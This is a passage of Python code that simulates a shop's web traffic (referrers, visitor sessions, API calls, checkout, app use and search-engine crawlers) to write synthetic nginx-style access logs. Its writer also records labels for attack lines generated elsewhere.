GOOGLE_DOMAINS = weighted([("www.google.com", 40), ("www.google.de", 22), ("www.google.co.uk", 9), ("www.google.fr", 5),
                           ("www.google.nl", 4), ("www.google.at", 3), ("www.google.ch", 3), ("www.google.it", 2),
                           ("www.google.es", 2), ("www.google.pl", 2), ("www.google.se", 1.5), ("www.google.dk", 1),
                           ("www.google.be", 1.5), ("www.google.ie", 1), ("www.google.com.au", 0.5),
                           ("www.google.ca", 0.5)])
SUBREDDITS = ["malefashionadvice", "femalefashionadvice", "BuyItForLife", "hiking", "CampingandHiking",
              "frugalmalefashion", "goodyearwelt", "de", "ukfashion", "onebag", "Ultralight", "sustainability"]


class Referrers:
    """Where visitors come from: search engines, social sites, and thousands of other sites."""

    def __init__(self, rng, site):
        self.rng = rng
        self.site = site
        self.external_pages = zipf(self.make_external_pages(3_200), 0.75)
        self.reddit_threads = [self.reddit_thread() for _ in range(160)]
        self.short_links = [f"https://t.co/{token(rng, 10)}" for _ in range(260)]
        self.pins = [f"https://www.pinterest.com/pin/{rng.randint(10**17, 10**18)}/" for _ in range(300)]

    def reddit_thread(self):
        rng = self.rng
        thread = token(rng, 7, "abcdefghijklmnopqrstuvwxyz0123456789")
        ending = rng.choice(["recommendations", "review", "worth_it", "help"])
        title = f"{rng.choice(ADJECTIVES)}_{rng.choice(ITEMS)}_{ending}"
        return f"https://www.reddit.com/r/{rng.choice(SUBREDDITS)}/comments/{thread}/{title}/"

    def make_external_pages(self, count):
        rng = self.rng
        pages = []
        for _ in range(count):
            name = rng.choice(WORDS) + rng.choice(["", "-", ""]) + rng.choice(WORDS)
            host = ("www." if rng.random() < 0.5 else "") + f"{name}.{rng.choice(TLDS)}"
            shape = rng.random()
            if shape < 0.3:
                path = "/"
            elif shape < 0.7:
                kind = rng.choice(["review", "guide", "haul", "deals", "picks", "test"])
                slug = f"{rng.choice(ADJECTIVES)}-{rng.choice(ITEMS)}-{kind}"
                path = f"/{rng.randint(2019, 2026)}/{rng.randint(1, 12):02d}/{slug}/"
            elif shape < 0.85:
                path = f"/forum/thread/{rng.randint(1000, 999999)}"
            else:
                path = f"/blog/{rng.choice(WORDS)}-{rng.choice(WORDS)}-{rng.randint(1, 99)}.html"
            pages.append(f"https://{host}{path}")
        return pages

    def entry(self, rng):
        """(kind, referer) for the first page of a visit."""
        kind = ENTRY_KINDS.pick(rng)
        if kind == "direct" or kind == "email" or kind == "app":
            return kind, "-"
        if kind == "google":
            return kind, f"https://{GOOGLE_DOMAINS.pick(rng)}/" if rng.random() < 0.96 else \
                "android-app://com.google.android.googlequicksearchbox/"
        if kind == "bing":
            if rng.random() < 0.7:
                return kind, "https://www.bing.com/"
            return kind, (f"https://www.bing.com/search?q={quote_plus(self.site.query(rng))}&form=QBLH&sp=-1&qs=n"
                          f"&cvid={hex_id(rng, 32).upper()}")
        if kind == "other_search":
            return kind, rng.choice(["https://duckduckgo.com/", "https://www.ecosia.org/", "https://search.yahoo.com/",
                                     "https://search.brave.com/", "https://www.qwant.com/", "https://yandex.ru/",
                                     "https://www.startpage.com/"])
        if kind == "social":
            return kind, self.social(rng)
        if kind == "ads":
            return kind, rng.choice([f"https://{GOOGLE_DOMAINS.pick(rng)}/", "https://www.googleadservices.com/",
                                     "https://l.facebook.com/", "-"])
        return kind, self.external_pages.pick(rng)

    def social(self, rng):
        choice = rng.random()
        if choice < 0.3:
            return rng.choice(["https://l.facebook.com/", "https://m.facebook.com/", "https://lm.facebook.com/"])
        if choice < 0.5:
            return rng.choice(["https://l.instagram.com/", "https://www.instagram.com/"])
        if choice < 0.62:
            return rng.choice(self.pins) if rng.random() < 0.6 else "https://www.pinterest.com/"
        if choice < 0.76:
            return rng.choice(self.reddit_threads) if rng.random() < 0.8 else "https://out.reddit.com/"
        if choice < 0.86:
            return rng.choice(self.short_links)
        if choice < 0.93:
            return "https://www.youtube.com/"
        return rng.choice(["https://www.tiktok.com/", "https://www.linkedin.com/", "android-app://com.slack/",
                           "https://away.vk.com/", "https://news.ycombinator.com/"])


ENTRY_KINDS = weighted([("direct", 28), ("google", 33), ("bing", 4.5), ("other_search", 3), ("social", 10),
                        ("external", 11), ("email", 5.5), ("ads", 5)])

# --- The timeline: every source adds records, hour by hour they are sorted and written --------


class Timeline:
    """Records grouped by the hour they fall in, so that only about an hour is held at a time."""

    def __init__(self, end):
        self.end = end
        self.buckets = collections.defaultdict(list)
        self.added = 0

    def add(self, t, ip, request, status, size, referer, agent, label=None):
        if 0 <= t < self.end:
            self.buckets[t // HOUR].append((t, ip, request, status, size, referer, agent, label))
            self.added += 1

    def take_hour(self, hour):
        records = self.buckets.pop(hour, [])
        records.sort(key=operator.itemgetter(0))  # stable: a visit's lines keep their order within a second
        return records


class LogWriter:
    """Writes records as combined log lines, up to a limit, and the labels of the attack lines."""

    def __init__(self, out, labels, limit):
        self.out = out
        self.labels = labels
        self.limit = limit
        self.written = 0
        self.last_second = None
        self.last_stamp = ""
        if labels:
            labels.write("line,client,kind\n")

    def stamp(self, t):
        if t != self.last_second:
            moment = START + dt.timedelta(seconds=t)
            self.last_second = t
            self.last_stamp = moment.strftime("%d/%b/%Y:%H:%M:%S %z")
        return self.last_stamp

    def write(self, records):
        chunk = []
        for t, ip, request, status, size, referer, agent, label in records:
            if self.written >= self.limit:
                break
            self.written += 1
            chunk.append(f'{ip} - - [{self.stamp(t)}] "{request}" {status} {size if size else "-"} '
                         f'"{referer}" "{agent}"\n')
            if label and self.labels:
                self.labels.write(f"{self.written},{ip},{label}\n")
        self.out.write("".join(chunk))

    @property
    def full(self):
        return self.written >= self.limit


# --- Visitors -----------------------------------------------------------------------

NEXT_PAGE = {
    "home": weighted([("category", 45), ("product", 24), ("search", 18), ("info", 5), ("blog", 4), ("account", 4)]),
    "category": weighted([("product", 55), ("category", 25), ("search", 9), ("home", 5), ("cart", 4), ("wishlist", 2)]),
    "product": weighted([("product", 30), ("category", 18), ("add_to_cart", 14), ("search", 12), ("home", 5),
                         ("cart", 5), ("wishlist", 3), ("reviews", 6), ("info", 2)]),
    "search": weighted([("product", 55), ("search", 25), ("category", 10), ("home", 10)]),
    "cart": weighted([("checkout", 45), ("product", 25), ("home", 15), ("category", 15)]),
    "blog": weighted([("blog", 30), ("product", 35), ("home", 20), ("category", 15)]),
    "info": weighted([("home", 50), ("category", 25), ("product", 15), ("info", 10)]),
    "account": weighted([("home", 35), ("category", 25), ("product", 20), ("account", 20)]),
    "wishlist": weighted([("product", 60), ("cart", 20), ("home", 20)]),
    "reviews": weighted([("product", 60), ("add_to_cart", 25), ("category", 15)]),
}
LANDING = {
    "direct": weighted([("home", 70), ("product", 10), ("category", 8), ("account", 7), ("cart", 5)]),
    "google": weighted([("product", 45), ("category", 22), ("home", 15), ("blog", 14), ("info", 4)]),
    "bing": weighted([("product", 45), ("category", 22), ("home", 20), ("blog", 10), ("info", 3)]),
    "other_search": weighted([("product", 45), ("category", 22), ("home", 20), ("blog", 13)]),
    "social": weighted([("product", 55), ("blog", 25), ("home", 10), ("category", 10)]),
    "external": weighted([("product", 42), ("blog", 20), ("home", 20), ("category", 10), ("broken", 8)]),
    "email": weighted([("category", 50), ("product", 30), ("home", 20)]),
    "ads": weighted([("product", 70), ("category", 20), ("home", 10)]),
}
# (NAT gateway, share of the visits, how many people's browsers behind it at 1M lines)
GATEWAYS = [("an office", 0.045, 350), ("a university", 0.028, 250), ("a mobile carrier", 0.02, 500)]
VISITOR_ADDRESSES = 3_700  # browser and app users at 1M lines, besides the gateways
SHARED_FROM = 60  # an address with more visits than this is shared by several people (a small NAT)


class Client:
    """An address that comes back: its browser (or browsers, if shared) and what it has cached."""

    __slots__ = ("ip", "agents", "protocol", "cached_deploy")

    def __init__(self, ip, agents, protocol):
        self.ip = ip
        self.agents = agents
        self.protocol = protocol
        self.cached_deploy = None


class Page:
    """A page as a visitor sees it: its URL, kind, script chunk and what it shows."""

    __slots__ = ("target", "kind", "chunk", "subject")

    def __init__(self, target, kind, chunk=None, subject=None):
        self.target = target
        self.kind = kind
        self.chunk = chunk
        self.subject = subject  # the Product, Category or BlogPost shown, if any


class Visit:
    """One browsing session: who, when, what is cached, and the page it is on."""

    __slots__ = ("ip", "agent", "protocol", "warm", "page_url", "t", "logged_in", "deploy")

    def __init__(self, ip, agent, protocol, warm, t, deploy):
        self.ip = ip
        self.agent = agent
        self.protocol = protocol
        self.warm = warm  # assets of the current deploy are in the browser's cache
        self.page_url = "-"
        self.t = t
        self.logged_in = False
        self.deploy = deploy


SOCIAL_SOURCES = {"t.co": "twitter", "com.slack": "slack", "out.reddit.com": "reddit", "away.vk.com": "vk",
                  "news.ycombinator.com": "hackernews"}


def social_source(referer):
    """The utm_source a social site's link carries: "https://l.instagram.com/" -> "instagram"."""
    host = referer.split("//", 1)[-1].split("/", 1)[0]
    if host in SOCIAL_SOURCES:
        return SOCIAL_SOURCES[host]
    return host.split(".")[-2]


def is_ios(agent):
    return "iPhone" in agent or "iPad" in agent


class Visitors:
    """People with browsers, and the shop's app: the bulk of the log."""

    def __init__(self, rng, site, agents, addresses, referrers, timeline, scale, expected_visits):
        self.rng = rng
        self.site = site
        self.agents = agents
        self.referrers = referrers
        self.timeline = timeline
        self.outage = (3 * DAY + 19 * HOUR + 41 * 60, 3 * DAY + 19 * HOUR + 53 * 60)  # Thursday evening, 12 minutes
        self.owners = self.make_owners(addresses, scale, expected_visits)
        self.next_owner = 0

    def make_owners(self, addresses, scale, expected_visits):
        """One entry per visit to come, naming whose it is: heavy-tailed, shuffled over the week.

        Most addresses come once or twice; a few come back daily; the busiest are shared
        by several people (a household, a small office) and the gateways by hundreds."""
        rng = self.rng
        owners = []
        for _, share, people in GATEWAYS:
            agents = [self.agents.browser() for _ in range(max(5, int(people * scale)))]
            owners += [Client(addresses.ipv4(), agents, "HTTP/2.0")] * int(share * expected_visits)
        counts = [heavy_tailed_count(rng, 0.9, 400) for _ in range(max(20, int(VISITOR_ADDRESSES * scale)))]
        stretch = (expected_visits - len(owners)) / sum(counts)
        for count in counts:
            visits = max(1, round(count * stretch))
            people = 1 + visits // SHARED_FROM
            agent_of = self.agents.app if rng.random() < 0.07 else self.agents.browser
            protocol = "HTTP/2.0" if rng.random() < 0.72 else "HTTP/1.1"
            owners += [Client(addresses.visitor(), [agent_of() for _ in range(people)], protocol)] * visits
        rng.shuffle(owners)
        return owners

    def owner(self):
        if self.next_owner < len(self.owners):
            self.next_owner += 1
            return self.owners[self.next_owner - 1]
        return self.rng.choice(self.owners)

    def hit(self, visit, t, target, status, size, referer, method="GET"):
        """One request of a visit; during the outage, most requests for pages and the API fail."""
        in_outage = self.outage[0] <= t < self.outage[1]
        if in_outage and status == 200 and not target.startswith(("/static", "/media")) and self.rng.random() < 0.8:
            status, size = self.rng.choice([(502, 157), (503, 197), (504, 167)])
        self.timeline.add(t, visit.ip, f"{method} {target} {visit.protocol}", status, size, referer, visit.agent)

    # A visit

    def visit(self, start):
        rng = self.rng
        client = self.owner()
        deploy = self.site.deploy_at(start)
        agent = rng.choice(client.agents)
        if agent.startswith("NorthwindShop"):
            self.app_session(client, agent, start)
            return
        shared = len(client.agents) > 1
        warm = client.cached_deploy is deploy and rng.random() < (0.4 if shared else 0.8)
        visit = Visit(client.ip, agent, client.protocol, warm, start, deploy)
        if client.cached_deploy not in (None, deploy) and rng.random() < 0.04:
            # A page cached before the deploy asks for a script that is gone.
            self.hit(visit, start, client.cached_deploy.scripts[2], 404, 555, SITE + "/")
        client.cached_deploy = deploy
        entry_kind, visit.page_url = self.referrers.entry(rng)
        kind = LANDING[entry_kind].pick(rng)
        pages = 1 if rng.random() < 0.38 else min(40, 1 + int(rng.expovariate(1 / 4.5)))
        for number in range(pages):
            kind = self.view(visit, kind, landing_kind=entry_kind if number == 0 else None)
            if kind is None:
                break
            visit.t += max(2, int(rng.lognormvariate(3.2, 1.0)))
            kind = NEXT_PAGE.get(kind, NEXT_PAGE["home"]).pick(rng)

    def view(self, visit, kind, landing_kind):
        """One page view with its assets; returns the kind of page it ended on (None: the visit ends)."""
        rng = self.rng
        page = self.page_for(visit, kind)
        if page is None:
            return None
        target = page.target
        if landing_kind in ("email", "ads", "social") or (landing_kind == "external" and rng.random() < 0.3):
            target = self.with_tracking(target, landing_kind, visit.page_url)
        if page.kind == "blog" and target.endswith("/") and rng.random() < 0.06:  # a link without the trailing slash
            self.hit(visit, visit.t, target.rstrip("/"), 301, 178, visit.page_url)
        status, size = self.page_status(page)
        self.hit(visit, visit.t, target, status, size, visit.page_url)
        if status >= 400:
            return "home" if rng.random() < 0.5 else None
        page_url = SITE + target
        if landing_kind is not None:
            self.bundle(visit, page_url)
        if page.chunk:
            chunk = visit.deploy.chunks[page.chunk]
            self.asset(visit, chunk, visit.deploy.sizes[chunk], page_url)
        self.page_media(visit, page, page_url)
        self.page_calls(visit, page, page_url, first=landing_kind is not None)
        visit.page_url = page_url
        return page.kind

    def page_for(self, visit, kind):
        """The Page a visitor goes to next, given its kind; None when the visit ends there."""
        rng = self.rng
        site = self.site
        if kind == "product":
            product = site.product(rng)
            return Page(product.path, "product", "product", product)
        if kind == "category":
            category = site.category(rng)
            return Page(site.category_target(rng, category), "category", "category", category)
        if kind == "search":
            query = site.query(rng)
            self.suggestions(visit, query)
            more = f"&page={rng.randint(2, 5)}" if rng.random() < 0.12 else ""
            return Page(f"/search?q={quote_plus(query)}{more}", "search", "search")
        if kind == "blog":
            if rng.random() < 0.15:
                return Page("/blog/", "blog", "blog")
            post = site.post(rng)
            return Page(post.path, "blog", "blog", post)
        if kind == "info":
            return Page(site.info_pages.pick(rng), "info")
        if kind == "reviews":
            product = site.product(rng)
            return Page(f"{product.path}/reviews?page={rng.randint(1, 4)}", "reviews", "product", product)
        if kind == "wishlist":
            return Page("/wishlist", "wishlist", "account")
        if kind == "cart":
            return Page("/cart", "cart", "checkout")
        if kind == "add_to_cart":
            self.add_to_cart(visit)
            return Page("/cart", "cart", "checkout")
        if kind == "checkout":
            self.checkout(visit)
            return None
        if kind == "account":
            if not visit.logged_in:
                self.hit(visit, visit.t, "/account", 302, 0, visit.page_url)
                self.log_in(visit)
            return Page(rng.choice(["/account", "/account/orders", "/account/addresses", "/account/settings"]),
                        "account", "account")
        if kind == "broken":
            return Page(f"/products/{rng.choice(site.discontinued)}", "broken")
        return Page("/", "home")

    def with_tracking(self, target, landing_kind, referer):
        """Campaign parameters and click ids, which make nearly every landing URL unique."""
        rng = self.rng
        join = "&" if "?" in target else "?"
        meta = "facebook" in referer or "instagram" in referer
        if landing_kind == "email":
            campaign = rng.choice(self.site.campaigns[2:4])
            return (f"{target}{join}utm_source=newsletter&utm_medium=email&utm_campaign={campaign}"
                    f"&mc_cid={hex_id(rng, 10)}&mc_eid={hex_id(rng, 10)}")
        if landing_kind == "ads":
            if meta:
                return f"{target}{join}utm_source=facebook&utm_medium=paid&fbclid=IwAR{token(rng, 58)}"
            if rng.random() < 0.75:
                return f"{target}{join}gclid={token(rng, 32)}_BwE"
            return f"{target}{join}utm_source=google&utm_medium=cpc&utm_campaign={rng.choice(self.site.campaigns[6:])}"
        if landing_kind == "social":
            if meta and rng.random() < 0.7:
                return f"{target}{join}fbclid=IwAR{token(rng, 58)}"
            if rng.random() < 0.5:
                return target
            campaign = rng.choice(self.site.campaigns[:2])
            return f"{target}{join}utm_source={social_source(referer)}&utm_medium=social&utm_campaign={campaign}"
        return f"{target}{join}ref={rng.choice(self.site.affiliates)}"

    def page_status(self, page):
        rng = self.rng
        if page.kind == "broken":
            return 404, 9_871  # a discontinued product, linked from elsewhere
        roll = rng.random()
        if roll < 0.004:
            return rng.choice([500, 502, 503]), rng.choice([157, 197, 1_432])
        if roll < 0.016:
            return 404, 9_871  # a mistyped or stale link
        if page.kind == "home":
            return 200, rng.randint(71_000, 74_000)
        if isinstance(page.subject, (Product, BlogPost)):
            return 200, page.subject.page_size + rng.randint(-200, 200)
        if isinstance(page.subject, Category):
            return 200, page.subject.page_size + rng.randint(-3_000, 3_000)
        return 200, rng.randint(14_000, 40_000)

    # What a page pulls in

    def asset(self, visit, path, size, referer, t=None):
        """A cacheable file: a cold browser fetches it (200); a warm one mostly does not ask, or revalidates (304)."""
        rng = self.rng
        when = (visit.t if t is None else t) + (rng.random() < 0.3)
        if not visit.warm:
            self.hit(visit, when, path, 200, size, referer)
        elif rng.random() < 0.33:
            self.hit(visit, when, path, 304, 0, referer)

    def image(self, visit, path, size, referer, t):
        """A product or blog image: as asset(), but now and then one the image server cannot find."""
        if self.rng.random() < 0.012:
            self.hit(visit, t, path, 404, 555, referer)
        else:
            self.asset(visit, path, size, referer, t)

    def bundle(self, visit, page_url):
        """What the first page of a visit pulls in: styles, scripts, fonts, icons."""
        rng = self.rng
        deploy = visit.deploy
        self.asset(visit, deploy.css, deploy.sizes[deploy.css], page_url)
        for script in deploy.scripts:
            self.asset(visit, script, deploy.sizes[script], page_url)
        css_url = SITE + deploy.css
        self.asset(visit, "/static/fonts/inter-var.woff2?v=4.1", 344_612, css_url)
        if rng.random() < 0.5:
            self.asset(visit, "/static/fonts/inter-var-italic.woff2?v=4.1", 381_207, css_url)
        self.asset(visit, "/static/img/logo.svg", 6_240, page_url)
        self.asset(visit, "/static/img/icons.svg", 18_777, page_url)
        if not visit.warm and rng.random() < 0.6:
            self.hit(visit, visit.t + 1, "/favicon.ico", 200, 15_086, page_url)
        if is_ios(visit.agent) and rng.random() < 0.6:  # iOS asks for icons the site does not have
            self.hit(visit, visit.t + 1, "/apple-touch-icon-120x120-precomposed.png", 404, 555, "-")
            self.hit(visit, visit.t + 1, "/apple-touch-icon-120x120.png", 404, 555, "-")
            self.hit(visit, visit.t + 1, "/apple-touch-icon-precomposed.png", 404, 555, "-")
            self.hit(visit, visit.t + 1, "/apple-touch-icon.png", 200, 9_330, "-")
        if rng.random() < 0.35:
            self.hit(visit, visit.t + 2, "/sw.js", 304 if visit.warm else 200, 0 if visit.warm else 2_318, page_url)
        if rng.random() < 0.2:
            self.hit(visit, visit.t + 2, "/manifest.webmanifest", 200, 612, page_url)

    def page_media(self, visit, page, page_url):
        rng = self.rng
        site = self.site
        t = visit.t
        if page.kind == "product":
            product = page.subject
            for number, size in enumerate(product.image_sizes[: rng.randint(1, len(product.image_sizes))], start=1):
                self.image(visit, product.image(number), size, page_url, t + number // 3)
            for _ in range(rng.randint(0, 4)):
                related = site.product(rng)
                self.image(visit, related.thumbnail(), related.image_sizes[0] // 9, page_url, t + 1)
        elif page.kind in ("category", "search"):
            category = page.subject
            for _ in range(rng.randint(6, 14)):
                product = category.picker.pick(rng) if category and category.picker else site.product(rng)
                self.image(visit, product.thumbnail(), product.image_sizes[0] // 9, page_url, t + 1)
        elif page.kind == "home":
            for banner in rng.sample(site.banners, 2):
                self.asset(visit, banner, site.banner_sizes[banner], page_url)
            for _ in range(rng.randint(4, 8)):
                product = site.products[rng.randrange(24)]
                self.image(visit, product.thumbnail(), product.image_sizes[0] // 9, page_url, t + 1)
        elif page.kind == "blog" and page.subject:
            post = page.subject
            for number, size in enumerate(post.images, start=1):
                self.image(visit, f"{post.media}-{number}.jpg", size, page_url, t + 1)
        elif page.kind in ("cart", "wishlist"):
            for _ in range(rng.randint(1, 3)):
                product = site.product(rng)
                self.image(visit, product.thumbnail(), product.image_sizes[0] // 9, page_url, t)

    def page_calls(self, visit, page, page_url, first):
        """The page's scripts calling the API: who is logged in, cart badge, stock, recommendations, analytics.

        Now and then the browser gives up on a call before the answer (nginx logs 499), and now
        and then the application fails (500) or its upstream times out (504)."""
        rng = self.rng
        t = visit.t + 1 + (rng.random() < 0.5)
        calls = []
        if first and rng.random() < 0.6:
            calls.append(("GET", "/api/v1/me", 200 if visit.logged_in else 401, 48))
        if rng.random() < 0.22:
            calls.append(("GET", f"/api/v1/cart/summary?_={START_MS + t * 1000 + rng.randrange(1000)}", 200,
                          rng.randint(38, 420)))
        if page.kind == "product":
            item = page.subject.item_id
            calls.append(("GET", f"/api/v1/items/{item}/availability", 200, rng.randint(90, 640)))
            if rng.random() < 0.5:
                calls.append(("GET", f"/api/v1/recommendations?item={item}&limit=8", 200, rng.randint(2_400, 6_800)))
        if rng.random() < 0.55:
            calls.append(("POST", "/api/v1/events", 204, 0))
        for method, target, status, size in calls:
            roll = rng.random()
            if roll < 0.02:
                status, size = 499, 0
            elif roll < 0.023:
                status, size = rng.choice([(500, 64), (504, 167)])
            self.hit(visit, t, target, status, size, page_url, method)
            t += rng.random() < 0.4

    def suggestions(self, visit, query):
        """Typing into the search box asks for suggestions as the words grow."""
        rng = self.rng
        if rng.random() < 0.5 or len(query) < 4:
            return
        for length in sorted(rng.sample(range(2, len(query)), min(3, len(query) - 3))):
            self.hit(visit, visit.t - 3 + min(length // 3, 2), f"/api/v1/search/suggest?q={quote_plus(query[:length])}",
                     200, rng.randint(60, 900), visit.page_url)

    # Forms

    def add_to_cart(self, visit):
        self.hit(visit, visit.t, "/cart/add", 302, 0, visit.page_url, method="POST")
        visit.t += 1 + (self.rng.random() < 0.5)

    def log_in(self, visit):
        """The login form, now and then a mistyped password (401), then in (302)."""
        rng = self.rng
        target = "/login" if rng.random() < 0.7 else f"/login?next={quote('/account', safe='')}"
        self.hit(visit, visit.t, target, 200, rng.randint(11_000, 12_000), visit.page_url)
        login_url = SITE + target
        visit.t += rng.randint(6, 40)
        while rng.random() < 0.12:
            self.hit(visit, visit.t, "/login", 401, 11_420, login_url, method="POST")
            visit.t += rng.randint(5, 25)
        self.hit(visit, visit.t, "/login", 302, 0, login_url, method="POST")
        visit.logged_in = True
        visit.t += 1

    def checkout(self, visit):
        """Cart to confirmation, with the odd drop-out on the way."""
        rng = self.rng
        referer = visit.page_url
        if not visit.logged_in and rng.random() < 0.45:
            self.log_in(visit)
        chunk = visit.deploy.chunks["checkout"]
        for step in ["/checkout", "/checkout/shipping", "/checkout/payment"]:
            self.hit(visit, visit.t, step, 200, rng.randint(18_000, 30_000), referer)
            self.asset(visit, chunk, visit.deploy.sizes[chunk], SITE + step, visit.t + 1)
            if rng.random() < 0.18:
                return
            visit.t += rng.randint(15, 120)
            self.hit(visit, visit.t, step, 302, 0, SITE + step, method="POST")
            referer = SITE + step
            visit.t += 1
        order = f"SO-26{rng.randint(1_000_000, 9_999_999)}"
        self.hit(visit, visit.t, f"/checkout/confirmation?order={order}", 200, rng.randint(14_000, 19_000), referer)

    # The shop's app: API calls and images, no pages

    def app_session(self, client, agent, start):
        rng = self.rng
        site = self.site
        visit = Visit(client.ip, agent, "HTTP/2.0", False, start, None)
        version = agent.split("/")[1].split(" ")[0]
        self.hit(visit, visit.t, f"/api/v1/home?locale=de-DE&app_version={version}", 200,
                 rng.randint(9_000, 24_000), "-")
        for _ in range(1 + int(rng.expovariate(1 / 6))):
            visit.t += max(1, int(rng.lognormvariate(2.5, 1.0)))
            roll = rng.random()
            if roll < 0.35:
                product = site.product(rng)
                self.hit(visit, visit.t, f"/api/v1/items/{product.item_id}", 200, rng.randint(2_000, 9_000), "-")
                self.hit(visit, visit.t, f"{product.media}-1-800x800.webp", 200, product.image_sizes[0] // 3, "-")
            elif roll < 0.6:
                category = site.category(rng)
                page = int(rng.paretovariate(2))
                self.hit(visit, visit.t, f"/api/v1/items?category={category.slug}&page={page}&per_page=20", 200,
                         rng.randint(8_000, 24_000), "-")
            elif roll < 0.75:
                self.hit(visit, visit.t, f"/api/v1/search?q={quote_plus(site.query(rng))}", 200,
                         rng.randint(400, 24_000), "-")
            elif roll < 0.85:
                self.hit(visit, visit.t, "/api/v1/cart", 200, rng.randint(300, 3_000), "-")
            elif roll < 0.92:
                self.hit(visit, visit.t, "/api/v1/cart/items", 201, rng.randint(300, 900), "-", method="POST")
            else:
                self.hit(visit, visit.t, f"/api/v1/items/{site.product(rng).item_id}/reviews?page=1", 200,
                         rng.randint(400, 12_000), "-")
            if rng.random() < 0.3:
                self.hit(visit, visit.t, "/api/v1/events", 204, 0, "-", method="POST")


# --- Crawlers -----------------------------------------------------------------------

GOOGLEBOT_NETS = [f"66.249.{n}." for n in (64, 65, 66, 68, 69, 70, 72, 73, 75, 76, 77, 79)]
BINGBOT_NETS = ["40.77.167.", "40.77.188.", "157.55.39.", "207.46.13.", "52.167.144."]
GOOGLEBOT_CHROME = ["145.0.7632.116", "145.0.7632.159", "146.0.7680.31"]
GOOGLEBOT_DESKTOP = ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; "
                     "+http://www.google.com/bot.html) Chrome/{chrome} Safari/537.36")
GOOGLEBOT_SMARTPHONE = ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 "
                        "(KHTML, like Gecko) Chrome/{chrome} Mobile Safari/537.36 (compatible; Googlebot/2.1; "
                        "+http://www.google.com/bot.html)")

Crawler = collections.namedtuple("Crawler", "name share agents networks addresses style")
# share: of all lines; networks: /24 prefixes its addresses are in (None: some random ones);
# addresses: how many it uses; style: "search" (with 304s), "seo" (tries every filter), "images"
CRAWLERS = [
    Crawler("googlebot", 0.042, [GOOGLEBOT_SMARTPHONE, GOOGLEBOT_SMARTPHONE, GOOGLEBOT_DESKTOP,
                                 "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"],
            GOOGLEBOT_NETS, 45, "search"),
    Crawler("googlebot-image", 0.01, ["Googlebot-Image/1.0"], GOOGLEBOT_NETS, 12, "images"),
    Crawler("bingbot", 0.024, [
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
        "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 7_0 like Mac OS X) AppleWebKit/537.51.1 (KHTML, like Gecko) Version/7.0 "
        "Mobile/11A465 Safari/9537.53 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"],
        BINGBOT_NETS, 40, "search"),
    Crawler("ahrefsbot", 0.016, ["Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"],
            None, 30, "seo"),
    Crawler("semrushbot", 0.011, ["Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)"],
            None, 20, "seo"),
    Crawler("yandexbot", 0.005, ["Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
                                 "Mozilla/5.0 (compatible; YandexImages/3.0; +http://yandex.com/bots)"],
            None, 12, "search"),
    Crawler("applebot", 0.004, [
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
        "Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)"], None, 8, "search"),
    Crawler("petalbot", 0.004, [
        "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
        "(compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)"], None, 25, "search"),
    Crawler("gptbot", 0.005, [
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)"],
        None, 18, "seo"),
    Crawler("claudebot", 0.004, [
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)"],
        None, 10, "seo"),
    Crawler("bytespider", 0.006, [
        "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
        "(compatible; Bytespider; spider-feedback@bytedance.com)"], None, 120, "seo"),
    Crawler("ccbot", 0.002, ["CCBot/2.0 (https://commoncrawl.org/faq/)"], None, 6, "seo"),
    Crawler("mj12bot", 0.003, ["Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)"], None, 60, "seo"),
    Crawler("dotbot", 0.002, [
        "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)"], None, 4, "seo"),
    Crawler("amazonbot", 0.003, [
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Amazonbot/0.1; "
        "+https://developer.amazon.com/support/amazonbot) Chrome/119.0.6045.214 Safari/537.36"], None, 15, "search"),
    Crawler("duckduckbot", 0.001, ["DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)"], None, 4, "search"),
    Crawler("seznambot", 0.001, [
        "Mozilla/5.0 (compatible; SeznamBot/4.0; +https://o-seznam.cz/napoveda/vyhledavani/en/seznambot-crawler/)"],
        None, 3, "search"),
    Crawler("dataforseo", 0.0015, [
        "Mozilla/5.0 (compatible; DataForSeoBot/1.0; +https://dataforseo.com/dataforseo-bot)"], None, 5, "seo"),
    Crawler("blexbot", 0.001, ["Mozilla/5.0 (compatible; BLEXBot/1.0; +http://webmeup-crawler.com/)"], None, 3, "seo"),
    Crawler("barkrowler", 0.001, ["Mozilla/5.0 (compatible; Barkrowler/0.9; +https://babbar.tech/crawler)"],
            None, 3, "seo"),
]


class Crawlers:
    """Search engines and SEO crawlers: robots.txt, sitemaps, and the whole long tail of the site."""

    def __init__(self, rng, site, addresses, timeline, days):
        self.rng = rng
        self.site = site
        self.addresses = addresses
        self.timeline = timeline
        self.days = days

    def add_all(self, total_lines):
        for crawler in CRAWLERS:
            self.crawl(crawler, int(crawler.share * total_lines))

    def crawl(self, crawler, lines):
        """Bursts of requests at random times, each from one of its addresses, now and then reading robots.txt."""
        rng = self.rng
        networks = crawler.networks or [self.addresses.network() for _ in range(max(1, crawler.addresses // 10))]
        addresses = zipf([self.addresses.ipv4(rng.choice(networks)) for _ in range(crawler.addresses)], 1.1)
